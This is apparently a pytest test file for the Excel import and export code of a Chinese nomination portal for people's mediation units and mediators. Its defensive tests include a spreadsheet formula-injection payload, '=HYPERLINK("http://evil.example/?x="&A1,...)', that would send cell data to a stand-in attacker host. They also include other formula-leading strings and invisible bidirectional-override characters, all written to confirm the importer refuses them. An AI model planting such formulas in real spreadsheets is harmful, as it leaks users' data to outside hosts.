"""Excel templates, imports and exports of nominations (nominations.excel)."""

from __future__ import annotations

import datetime as dt
import io
import os
import zipfile
from dataclasses import dataclass
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from nominations import excel, fields
from nominations.excel import ImportFailed, RowError
from portal import sheets
from portal.tables import CategoryKind

LABEL = {f.key: f.label for f in fields.FIELDS}


@dataclass(frozen=True)
class Formula:
    """A formula to put in a cell of a filled template."""

    text: str


def _load(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def _headers(ws: Any, row: int) -> list[str]:
    return [c.value for c in ws[row] if c.value is not None]


def _fill(template: bytes, rows: list[dict[str, Any] | None], first_row: int = 4) -> bytes:
    """Write rows (by field key; None = leave the row empty) into a downloaded template;
    text as typed into a cell (“=…” stays text), ``Formula("=…")`` as a formula cell."""
    wb = _load(template)
    ws = wb[excel.SHEET]
    column = {excel._normalise_header(c.value): c.column for c in ws[excel.HEADER_ROW]}
    for offset, row in enumerate(rows):
        for key, value in (row or {}).items():
            cell = ws.cell(first_row + offset, column[excel._normalise_header(LABEL[key])])
            if isinstance(value, Formula):
                cell.value = value.text
                assert cell.data_type == "f"
            else:
                sheets.write(cell, value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _errors(data: bytes, kind: CategoryKind | str, **kw: Any) -> list[RowError]:
    with pytest.raises(ImportFailed) as info:
        excel.parse_workbook(data, kind, **kw)
    assert info.value.errors
    return info.value.errors


UNIT = {
    "name": "陇西县巩昌镇司法所",
    "township": "巩昌镇",
    "unit_type": "乡镇（街道）",
    "address": "陇西县巩昌镇北关路 12 号",
    "summary": "一站式化解矛盾纠纷。",
    "deeds": "## 做法\n\n- 网格化排查",
    "disputes_mediated": 120,
    "disputes_resolved": 118,
    "judicial_confirmations": 9,
    "on_the_spot": 60,
    "entrusted_court": 20,
    "entrusted_police": 5,
    "entrusted_government": 4,
    "entrusted_petition": 1,
    "entrusted_other": 2,
    "criminal_escalations": 0,
    "mass_incidents": 0,
    "contact_name": "李娟",
    "contact_phone": "0932-8212345",
}

MEDIATOR = {
    "name": "赵秀兰",
    "township": "香泉镇",
    "gender": "女",
    "birth_year": 1972,
    "committee": "安定区香泉镇香泉村人民调解委员会",
    "position": "专职人民调解员",
    "years_of_service": 15,
    "summary": "十五年扎根乡村调解。",
    "disputes_mediated": 80,
    "disputes_resolved": 79,
    "contact_name": "赵秀兰",
    "contact_phone": 13912345678.0,  # typed as a number
}


# --------------------------------------------------------------------------- template


@pytest.mark.parametrize("kind", list(CategoryKind))
def test_template_headers_follow_the_fields_of_the_kind(kind: CategoryKind) -> None:
    wb = _load(excel.template_workbook(kind, "“枫桥式”测试类别"))
    assert wb.sheetnames == [excel.SHEET, excel.NOTES_SHEET]
    ws = wb[excel.SHEET]
    expected = [f.label + ("*" if f.required else "") for f in fields.fields_for(kind)]
    assert _headers(ws, excel.HEADER_ROW) == expected
    assert "“枫桥式”测试类别" in ws.cell(1, 1).value
    assert CategoryKind(kind).label in ws.cell(1, 1).value
    assert ws.freeze_panes == "B3"
    for i, field in enumerate(fields.fields_for(kind), start=1):
        letter = ws.cell(excel.HEADER_ROW, i).column_letter
        assert ws.column_dimensions[letter].width >= 12, field.label


def test_mediator_template_has_no_unit_columns_and_vice_versa() -> None:
    mediator = _headers(
        _load(excel.template_workbook("mediator", "调解员"))[excel.SHEET], excel.HEADER_ROW
    )
    office = _headers(
        _load(excel.template_workbook("judicial_office", "司法所"))[excel.SHEET],
        excel.HEADER_ROW,
    )
    assert "性别*" in mediator and "地址*" not in mediator
    assert "地址*" in office and "性别*" not in office


@pytest.mark.parametrize("kind", list(CategoryKind))
def test_template_validations_drop_downs_and_whole_numbers(kind: CategoryKind) -> None:
    ws = _load(excel.template_workbook(kind, "类别"))[excel.SHEET]
    by_column: dict[str, Any] = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            assert rng.min_row == excel.EXAMPLE_ROW
            assert rng.max_row >= excel.EXAMPLE_ROW + excel.MAX_ROWS
            by_column[rng.coord.split(":")[0].rstrip("0123456789")] = dv
    for i, field in enumerate(fields.fields_for(kind), start=1):
        letter = ws.cell(excel.HEADER_ROW, i).column_letter
        dv = by_column[letter]
        if field.kind == "choice":
            assert dv.type == "list"
            assert dv.formula1 == '"' + ",".join(field.choices.values()) + '"'
            assert not dv.showDropDown  # openpyxl: True would hide the arrow
        elif field.kind == "int":
            assert dv.type == "whole"
            assert (dv.formula1, dv.formula2) == (str(field.minimum), str(field.maximum))
        elif field.kind == "date":
            assert dv.type == "date"
        else:
            assert dv.type == "textLength"
            assert dv.formula1 == str(field.max_length)
    choice_count = sum(1 for f in fields.fields_for(kind) if f.kind == "choice")
    assert sum(1 for dv in ws.data_validations.dataValidation if dv.type == "list") == (
        choice_count
    )


@pytest.mark.parametrize("kind", list(CategoryKind))
def test_example_row_is_marked_valid_and_never_imported(kind: CategoryKind) -> None:
    template = excel.template_workbook(kind, "类别")
    ws = _load(template)[excel.SHEET]
    example = [c.value for c in ws[excel.EXAMPLE_ROW]]
    assert example[0].startswith(excel.EXAMPLE_PREFIX)
    assert ws.cell(excel.EXAMPLE_ROW, 1).fill.fgColor.rgb.endswith("E7E6E6")
    # The example itself is valid data: without its marker it would import cleanly.
    labels = [excel._normalise_header(v) for v in _headers(ws, excel.HEADER_ROW)]
    by_label = {excel._normalise_header(f.label): f.key for f in fields.fields_for(kind)}
    raw = {by_label[label]: value for label, value in zip(labels, example, strict=True)}
    raw["name"] = raw["name"].removeprefix(excel.EXAMPLE_PREFIX)
    values, errors = fields.clean(kind, raw)
    assert errors == {}
    assert fields.missing(kind, values) == {}

    # The untouched template has nothing to import...
    [error] = _errors(template, kind)
    assert (error.row, error.column) == (0, "文件")
    assert "没有可导入的数据" in error.message
    # ...and a filled one imports its rows only.
    row = UNIT if kind != CategoryKind.mediator else MEDIATOR
    parsed = excel.parse_workbook(_fill(template, [row]), kind)
    assert [p["name"] for p in parsed] == [row["name"]]


def test_notes_sheet_explains_columns_rules_privacy_files_and_limit() -> None:
    wb = _load(excel.template_workbook("mediator", "“枫桥式”人民调解员"))
    ws = wb[excel.NOTES_SHEET]
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value)
    for field in fields.fields_for("mediator"):
        assert field.label in text
        if field.help:
            assert field.help in text
    assert "1930 至 2010" in text  # birth year limits
    assert "男、女" in text
    assert "调解成功、随手调均不能多于排查调处数" in text
    assert "司法确认不能多于调解成功数" in text
    assert "委托移送" in text and "合计不能多于排查调处数" in text
    assert "不会公开" in text
    assert "照片" in text and "PDF" in text
    assert f"最多导入 {excel.MAX_ROWS} 行" in text
    assert excel.EXAMPLE_PREFIX in text
    assert "*" in text and "橙色" in text  # the required marker is explained


# --------------------------------------------------------------------------- import


def test_filled_template_parses_into_cleaned_values() -> None:
    template = excel.template_workbook("mediator", "“枫桥式”人民调解员")
    second = {
        **MEDIATOR,
        "name": "  马国强 ",
        "gender": "男",
        "birth_year": 1965.0,  # whole-number floats are whole numbers
        "years_of_service": "20",
        "disputes_mediated": 50,
        "disputes_resolved": None,
        "contact_phone": 13800001111,
        "deeds": "第一段\n第二段",
    }
    data = _fill(template, [MEDIATOR, None, second])  # an empty row in between is skipped
    first, parsed_second = excel.parse_workbook(data, "mediator")
    assert set(first) == {f.key for f in fields.fields_for("mediator")}
    assert first["gender"] == "female"  # Chinese label → key
    assert first["contact_phone"] == "13912345678"  # the number keeps its digits
    assert first["birth_year"] == 1972 and isinstance(first["birth_year"], int)
    assert first["deeds"] is None  # drafts may be incomplete
    assert parsed_second["name"] == "马国强"
    assert parsed_second["gender"] == "male"
    assert parsed_second["birth_year"] == 1965 and isinstance(parsed_second["birth_year"], int)
    assert parsed_second["years_of_service"] == 20
    assert parsed_second["disputes_resolved"] is None
    assert parsed_second["contact_phone"] == "13800001111"
    assert parsed_second["deeds"] == "第一段\n第二段"


def test_unit_template_choice_labels_and_landline() -> None:
    template = excel.template_workbook("mediation_committee", "“枫桥式”人民调解委员会")
    row = {**UNIT, "name": "临洮县洮阳镇人民调解委员会", "unit_type": "行业性专业性"}
    [parsed] = excel.parse_workbook(_fill(template, [row]), "mediation_committee")
    assert parsed["unit_type"] == "trade"
    assert parsed["contact_phone"] == "0932-8212345"
    assert parsed["disputes_mediated"] == 120


def test_columns_found_by_header_in_any_order_with_marker_and_spaces() -> None:
    """A sheet made by hand: header in row 1, columns shuffled, loose header spelling."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    columns = list(reversed(fields.fields_for("judicial_office")))
    for i, field in enumerate(columns, start=1):
        header = field.label.replace("（", "(").replace("）", ")")
        ws.cell(1, i, f" {header} * " if i % 2 else header + "  ")
    for i, field in enumerate(columns, start=1):
        ws.cell(2, i, UNIT.get(field.key))
    ws.cell(3, columns.index(fields.FIELDS_BY_KEY["name"]) + 1, "通渭县平襄镇司法所")
    ws.cell(3, columns.index(fields.FIELDS_BY_KEY["disputes_mediated"]) + 1, "abc")
    out = io.BytesIO()
    wb.save(out)
    errors = _errors(out.getvalue(), "judicial_office")
    assert errors == [RowError(3, "排查调处矛盾纠纷（件）", "排查调处矛盾纠纷（件）须为整数。")]
    ws.cell(3, columns.index(fields.FIELDS_BY_KEY["disputes_mediated"]) + 1).value = None
    out = io.BytesIO()
    wb.save(out)
    parsed = excel.parse_workbook(out.getvalue(), "judicial_office")
    assert [p["name"] for p in parsed] == [UNIT["name"], "通渭县平襄镇司法所"]
    assert parsed[0]["unit_type"] == "township"


def test_one_bad_row_among_good_ones_refuses_the_whole_file() -> None:
    template = excel.template_workbook("judicial_office", "“枫桥式”司法所")
    rows = [
        {**UNIT, "name": f"第{i}司法所"} if i != 2 else {**UNIT, "name": "坏行", "unit_type": "镇"}
        for i in range(5)
    ]
    errors = _errors(_fill(template, rows), "judicial_office")
    # Template rows start at 4: the third data row is Excel row 6.
    assert errors == [RowError(6, "类型", "类型须为：乡镇（街道）、村、社区、行业性专业性。")]
    assert str(errors[0]) == "第 6 行“类型”：类型须为：乡镇（街道）、村、社区、行业性专业性。"


def test_every_problem_is_reported_in_row_and_column_order() -> None:
    template = excel.template_workbook("mediator", "调解员")
    rows = [
        {**MEDIATOR, "birth_year": 1800, "contact_phone": "12345"},
        MEDIATOR | {"name": "孙立"},
        {**MEDIATOR, "name": "周敏", "gender": "未知", "summary": "字" * 201},
    ]
    errors = _errors(_fill(template, rows), "mediator")
    assert [(e.row, e.column) for e in errors] == [
        (4, "出生年份"),
        (4, "联系电话"),
        (6, "性别"),
        (6, "一句话简介"),
    ]
    assert errors[0].message == "出生年份不能小于 1930。"
    assert errors[3].message == "一句话简介不能超过 200 个字（现有 201 个）。"


def test_inconsistent_figures_are_reported_at_their_column() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    rows = [
        {**UNIT, "name": "甲司法所", "disputes_resolved": 121},
        {**UNIT, "name": "乙司法所", "entrusted_court": 110},
        {**UNIT, "name": "丙司法所", "judicial_confirmations": 119},
        {**UNIT, "name": "丁司法所", "on_the_spot": 500},
    ]
    errors = _errors(_fill(template, rows), "judicial_office")
    assert errors == [
        RowError(4, "调解成功（件）", "调解成功不能多于排查调处数（120 件）。"),
        RowError(
            5,
            "其他单位委托移送（件）",
            "各类委托移送合计 122 件，不能多于排查调处数（120 件）。",
        ),
        RowError(6, "司法确认（件）", "司法确认不能多于调解成功数（118 件）。"),
        RowError(7, "随手调（件）", "随手调不能多于排查调处数（120 件）。"),
    ]


def test_mediator_years_of_service_must_fit_birth_year() -> None:
    template = excel.template_workbook("mediator", "调解员")
    row = {**MEDIATOR, "birth_year": 2000, "years_of_service": 40}
    errors = _errors(_fill(template, [row]), "mediator")
    assert errors == [RowError(4, "从事调解工作年限", "从事调解工作年限与出生年份不符。")]


def test_missing_name_is_reported() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    rows = [UNIT, {"township": "首阳镇", "disputes_mediated": 3}, {**UNIT, "name": "   "}]
    errors = _errors(_fill(template, rows), "judicial_office")
    assert errors == [
        RowError(5, "名称", "请填写名称。"),
        RowError(6, "名称", "请填写名称。"),
    ]


def test_duplicate_rows_are_reported() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    errors = _errors(_fill(template, [UNIT, {**UNIT, "name": "别的所"}, UNIT]), "judicial_office")
    assert errors == [RowError(6, "名称", "与第 4 行重复：同一推荐对象只能填写一行。")]


def test_phone_typed_as_number_losing_its_zero_gets_a_hint() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    errors = _errors(_fill(template, [{**UNIT, "contact_phone": 9328212345}]), "judicial_office")
    [error] = errors
    assert (error.row, error.column) == (4, "联系电话")
    assert "文字格式" in error.message


def test_unknown_missing_and_foreign_columns_are_reported() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    wb = _load(template)
    ws = wb[excel.SHEET]
    ws.cell(excel.HEADER_ROW, 4, "备注")  # replaces 地址
    ws.cell(excel.HEADER_ROW, 30, "性别")  # a mediator's column
    for col, value in enumerate((UNIT["name"], UNIT["township"]), start=1):
        ws.cell(4, col, value)
    out = io.BytesIO()
    wb.save(out)
    errors = _errors(out.getvalue(), "judicial_office")
    assert [(e.row, e.column) for e in errors] == [(2, "地址"), (2, "备注"), (2, "性别")]
    assert errors[0].message == "缺少“地址”列，请勿删除模板的列。"
    assert "无法识别" in errors[1].message
    assert "不属于司法所类别" in errors[2].message


def test_template_of_another_kind_is_refused() -> None:
    data = _fill(excel.template_workbook("judicial_office", "司法所"), [UNIT])
    [error] = _errors(data, "mediation_committee")
    assert (error.row, error.column) == (0, "文件")
    assert "“司法所”类别的模板" in error.message


def test_sheet_without_header_is_refused() -> None:
    wb = Workbook()
    wb.active.append(["姓名", "电话"])
    out = io.BytesIO()
    wb.save(out)
    [error] = _errors(out.getvalue(), "mediator")
    assert (error.row, error.column) == (0, "文件")
    assert "名称" in error.message


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_text_that_starts_like_a_formula_is_refused_at_its_row_and_column() -> None:
    template = excel.template_workbook("mediator", "调解员")
    rows = [
        {**MEDIATOR, "name": f"调解员{i}", "committee": text}
        for i, text in enumerate(FORMULA_STARTS)
    ]
    rows[0]["name"] = HYPERLINK
    errors = _errors(_fill(template, rows), "mediator")
    first = [(e.row, e.column, e.message) for e in errors[:2]]
    assert first == [
        (4, "名称", "名称不能以“=”开头（表格软件会把它当作公式），请删除开头的符号。"),
        (
            4,
            "所在调解组织",
            "所在调解组织不能以“=”开头（表格软件会把它当作公式），请删除开头的符号。",
        ),
    ]
    # Tab and carriage return are trimmed with the other spaces: “=1” is left, and refused.
    starts = ["=", "=", "+", "-", "@", "=", "="]
    assert [(e.row, e.column) for e in errors] == [(4, "名称")] + [
        (row, "所在调解组织") for row in range(4, 10)
    ]
    assert [e.message.split("“")[1][0] for e in errors] == starts
    # A mark of another kind is no formula: a dash inside a name, a list in the deeds.
    fine = {**MEDIATOR, "name": "阿依古丽-买买提", "deeds": "- 化解纠纷\n- 走访群众"}
    [parsed] = excel.parse_workbook(_fill(template, [fine]), "mediator")
    assert parsed["name"] == "阿依古丽-买买提"


def test_formula_cells_are_refused_whatever_they_compute() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    rows = [
        {**UNIT, "name": Formula('=HYPERLINK("http://evil.example","安定区司法所")')},
        {**UNIT, "name": "乙司法所", "disputes_mediated": Formula("=100+20")},
    ]
    assert _errors(_fill(template, rows), "judicial_office") == [
        RowError(4, "名称", excel.FORMULA_REFUSED),  # and not “请填写名称” as well
        RowError(5, "排查调处矛盾纠纷（件）", excel.FORMULA_REFUSED),
    ]
    assert "不能使用公式" in excel.FORMULA_REFUSED


HIDDEN = [
    *(chr(c) for c in range(0x202A, 0x202F)),  # embeddings and overrides
    *(chr(c) for c in range(0x2066, 0x206A)),  # isolates
    *(chr(c) for c in range(0x200B, 0x2010)),  # zero-width, direction marks
    "\u2060",
    "\ufeff",
    "\u061c",
]


@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(c):04X}" for c in HIDDEN])
@pytest.mark.parametrize("key", ["name", "township", "address", "contact_name"])
def test_invisible_characters_in_names_and_places_are_refused(key: str, char: str) -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    row = {**UNIT, key: f"{UNIT[key][:2]}{char}{UNIT[key][2:]}"}
    [error] = _errors(_fill(template, [row]), "judicial_office")
    assert (error.row, error.column) == (4, LABEL[key])
    assert f"含有不可见字符（U+{ord(char):04X}）" in error.message


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(_zip({"readme.txt": b"hello"}), id="zip-renamed"),
        pytest.param(os.urandom(4096), id="random-bytes"),
        pytest.param(b"PK\x03\x04" + os.urandom(200), id="broken-zip"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), id="old-xls"),
        pytest.param(
            _zip({"[Content_Types].xml": b"<Types", "xl/workbook.xml": b"not xml"}),
            id="broken-xml",
        ),
    ],
)
def test_unreadable_files_are_refused_at_row_0(data: bytes) -> None:
    assert _errors(data, "judicial_office") == [
        RowError(0, "文件", "无法读取该文件，请上传由本平台下载的 .xlsx 模板。")
    ]


def test_damaged_sheet_is_refused_at_row_0() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    src = zipfile.ZipFile(io.BytesIO(template))
    files = {info.filename: src.read(info) for info in src.infolist()}
    files["xl/worksheets/sheet1.xml"] = files["xl/worksheets/sheet1.xml"][:500]
    [error] = _errors(_zip(files), "judicial_office")
    assert (error.row, error.column) == (0, "文件")


def test_empty_file_is_refused() -> None:
    [error] = _errors(b"", "mediator")
    assert (error.row, error.column) == (0, "文件")


def test_too_many_rows_are_refused() -> None:
    template = excel.template_workbook("judicial_office", "司法所")
    rows = [{"name": f"第{i}号司法所"} for i in range(4)]
    assert len(excel.parse_workbook(_fill(template, rows[:3]), "judicial_office", 3)) == 3
    [error] = _errors(_fill(template, rows), "judicial_office", max_rows=3)
    assert (error.row, error.column) == (0, "文件")
    assert "最多导入 3 行" in error.message and "第 7 行" in error.message


def test_default_limit_is_max_rows() -> None:
    template = excel.template_workbook("mediator", "调解员")
    rows = [{"name": f"调解员{i}"} for i in range(excel.MAX_ROWS + 1)]
    [error] = _errors(_fill(template, rows), "mediator")
    assert f"最多导入 {excel.MAX_ROWS} 行" in error.message


# --------------------------------------------------------------------------- export


def _export_row(kind: str, **values: Any) -> dict[str, Any]:
    row = {f.key: values.get(f.key) for f in fields.fields_for(kind)}
    row.update({k: v for k, v in values.items() if k not in row})
    return row


def _read_back(data: bytes) -> dict[str, list[dict[str, Any]]]:
    wb = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    result: dict[str, list[dict[str, Any]]] = {}
    for ws in wb.worksheets:
        rows = list(ws.iter_rows(values_only=True))
        header = list(rows[0])
        result[ws.title] = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    wb.close()
    return result


def test_export_matches_the_rows_given() -> None:
    shanghai = ZoneInfo("Asia/Shanghai")
    submitted = dt.datetime(2023, 6, 1, 2, 30, 15, 123456, tzinfo=dt.UTC)
    office = _export_row(
        "judicial_office",
        **UNIT,
        county="陇西县",
        category="“枫桥式”司法所",
        status="已报送",
        success_rate="98.3%",
        submitted_at=submitted,
    )
    office["unit_type"] = "township"  # a key, as stored
    committee = _export_row(
        "mediation_committee",
        name='=HYPERLINK("http://x")',  # text, never a formula
        county="漳县",
        category="“枫桥式”人民调解委员会",
        status="草稿",
        success_rate=None,
        submitted_at=None,
        summary="#N/A",
        deeds="",
    )
    mediator = _export_row(
        "mediator",
        **{**MEDIATOR, "contact_phone": "13912345678", "gender": "female"},
        county="安定区",
        category="“枫桥式”人民调解员",
        status="已入围",
        success_rate="98.8%",
        submitted_at=dt.datetime(2023, 6, 2, 9, 0),
    )
    kinds = {
        "“枫桥式”司法所": "judicial_office",
        "“枫桥式”人民调解委员会": CategoryKind.mediation_committee,
        "“枫桥式”人民调解员": "mediator",
    }
    data = excel.export_workbook([mediator, office, committee], kinds)
    back = _read_back(data)
    assert list(back) == ["司法所", "人民调解委员会", "人民调解员"]

    for sheet, kind, given in (
        ("司法所", "judicial_office", office),
        ("人民调解委员会", "mediation_committee", committee),
        ("人民调解员", "mediator", mediator),
    ):
        [read] = back[sheet]
        columns = excel.export_columns(kind)
        assert list(read) == [label for _key, label in columns]
        assert "联系人" in read and "联系电话" in read  # staff exports include contacts
        for key, label in columns:
            expected = given.get(key)
            field = fields.FIELDS_BY_KEY.get(key)
            if field is not None and field.kind == "choice" and expected is not None:
                expected = field.choices.get(expected, expected)  # written as the label
            if expected == "":
                expected = None
            if isinstance(expected, dt.datetime):
                if expected.tzinfo is not None:
                    expected = expected.astimezone(shanghai).replace(tzinfo=None)
                expected = expected.replace(microsecond=0)
            assert read[label] == expected, (sheet, label)
            assert type(read[label]) is type(expected), (sheet, label)

    office_back = back["司法所"][0]
    assert office_back["报送时间"] == dt.datetime(2023, 6, 1, 10, 30, 15)
    assert office_back["类型"] == "乡镇（街道）"
    assert back["人民调解员"][0]["性别"] == "女"
    assert back["人民调解员"][0]["联系电话"] == "13912345678"

    wb = _load(data)
    assert wb["人民调解委员会"]["D2"].data_type == "s"  # the “formula” stayed text
    assert wb["人民调解委员会"]["D2"].value == '=HYPERLINK("http://x")'
    assert wb["司法所"].freeze_panes == "E2"


def test_export_of_one_kind_without_rows_still_has_headers() -> None:
    back = _read_back(excel.export_workbook([], "mediator"))
    assert list(back) == ["人民调解员"]
    wb = load_workbook(io.BytesIO(excel.export_workbook([], CategoryKind.mediator)))
    assert _headers(wb.active, 1) == [label for _k, label in excel.export_columns("mediator")]


def test_export_single_kind_for_all_rows_and_unknown_category() -> None:
    rows = [
        _export_row("judicial_office", name=f"所{i}", category="甲", county="岷县")
        for i in range(3)
    ]
    back = _read_back(excel.export_workbook(rows, "judicial_office"))
    assert [r["名称"] for r in back["司法所"]] == ["所0", "所1", "所2"]
    with pytest.raises(ValueError, match="unknown category"):
        excel.export_workbook(rows, {"乙": "judicial_office"})


def test_export_drops_characters_xlsx_cannot_hold() -> None:
    row = _export_row("judicial_office", name="渭源县\x0b司法所", category="甲")
    back = _read_back(excel.export_workbook([row], "judicial_office"))
    assert back["司法所"][0]["名称"] == "渭源县司法所"


def test_thousands_of_rows_outside_the_columns_are_refused_without_reading_them_all() -> None:
    wb = _load(excel.template_workbook("judicial_office", "司法所"))
    ws = wb[excel.SHEET]
    ws.cell(4, 1, "岷县梅川镇司法所")
    for row in range(5, 400):
        ws.cell(row, 40, "备忘")  # a column without a header
    out = io.BytesIO()
    wb.save(out)
    [error] = _errors(out.getvalue(), "judicial_office", max_rows=2)
    assert (error.row, error.column) == (0, "文件")
    assert "最多导入 2 行" in error.message
    # Within the reading limit such cells are ignored: the one named row imports.
    [parsed] = excel.parse_workbook(out.getvalue(), "judicial_office", max_rows=50)
    assert parsed["name"] == "岷县梅川镇司法所"
